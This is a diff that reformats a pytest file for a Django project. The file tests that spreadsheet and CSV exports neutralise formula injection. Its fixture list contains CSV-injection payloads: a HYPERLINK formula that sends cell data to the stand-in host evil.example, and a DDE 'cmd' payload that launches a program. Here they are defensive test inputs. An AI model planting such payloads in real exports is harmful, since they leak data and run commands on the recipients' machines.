@@ -5,6 +5,7 @@ group's name) is run by Excel as a formula. Every Excel/CSV export goes through 
 workbooks are ``core.exports.Workbook`` (such text as a quoted text cell, shown as typed), the admin's
 django-import-export exports through ``neutralise_dataset`` (a leading apostrophe). Numbers stay numbers.
 """
+
 from __future__ import annotations
 
 import csv
@@ -26,8 +27,15 @@ pytestmark = pytest.mark.django_db
 
 ROOT = Path(__file__).resolve().parent.parent
 
-FORMULAE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-            "\t=1+1", "\r=1+1", "=1+1"]
+FORMULAE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
 
 
 @pytest.fixture
@@ -66,8 +74,11 @@ def _assert_no_formula(content: bytes) -> set[str]:
 EXPORTS = {  # every Excel download of the pages: (URL name, query, formula-like texts it must show as typed)
     "ledger": ("groups:ledger", {"export": "xlsx"}, {FORMULAE[0], FORMULAE[1], FORMULAE[6]}),
     "coverage": ("groups:coverage", {"export": "xlsx", "year": 2026}, {FORMULAE[0], FORMULAE[1], FORMULAE[2]}),
-    "assessment": ("assessments:assessment_export", {"year": 2026}, {FORMULAE[1], FORMULAE[3], FORMULAE[4],
-                                                                      FORMULAE[5]}),
+    "assessment": (
+        "assessments:assessment_export",
+        {"year": 2026},
+        {FORMULAE[1], FORMULAE[3], FORMULAE[4], FORMULAE[5]},
+    ),
     "funding": ("assessments:funding_export", {"year": 2026}, {FORMULAE[1], FORMULAE[2]}),
     "proposal figures": ("proposals:figures_xlsx", {"year": 2026}, {FORMULAE[0], FORMULAE[6]}),
     "consultation figures": ("consultations:figures", {"export": "xlsx"}, set()),  # labels and counts only
@@ -147,16 +158,19 @@ def _saved(book) -> bytes:
 
 
 APP_DIRS = ["core", "groups", "proposals", "consultations", "assessments", "cppcc_portal"]
-WRITERS = re.compile(r"openpyxl\.Workbook\(|from openpyxl import[^\n]*\bWorkbook\b|csv\.(Dict)?[wW]riter\(|"
-                     r"xlsxwriter|tablib\.Dataset\(\)\.export|\.export\(\"(csv|xlsx)\"")
+WRITERS = re.compile(
+    r"openpyxl\.Workbook\(|from openpyxl import[^\n]*\bWorkbook\b|csv\.(Dict)?[wW]riter\(|"
+    r"xlsxwriter|tablib\.Dataset\(\)\.export|\.export\(\"(csv|xlsx)\""
+)
 
 
 def test_no_export_writes_a_spreadsheet_around_core_exports():
     """A new export must build on ``core.exports.Workbook`` (or neutralise itself there): any other spreadsheet
     writer in the code base fails this test."""
     files = [p for d in APP_DIRS for p in (ROOT / d).rglob("*.py") if "migrations" not in p.parts]
-    offenders = [str(p.relative_to(ROOT)) for p in files
-                 if p != ROOT / "core" / "exports.py" and WRITERS.search(p.read_text())]
+    offenders = [
+        str(p.relative_to(ROOT)) for p in files if p != ROOT / "core" / "exports.py" and WRITERS.search(p.read_text())
+    ]
     assert offenders == []
 
 
@@ -168,5 +182,8 @@ def test_every_admin_export_goes_through_the_neutraliser():
 
     exporting = [a for a in admin.site._registry.values() if isinstance(a, BaseExportMixin)]
     assert exporting, "no admin exports found: the test looks in the wrong place"
-    assert [type(a).__name__ for a in exporting
-            if type(a).get_data_for_export is not UserScopedImportMixin.get_data_for_export] == []
+    assert [
+        type(a).__name__
+        for a in exporting
+        if type(a).get_data_for_export is not UserScopedImportMixin.get_data_for_export
+    ] == []
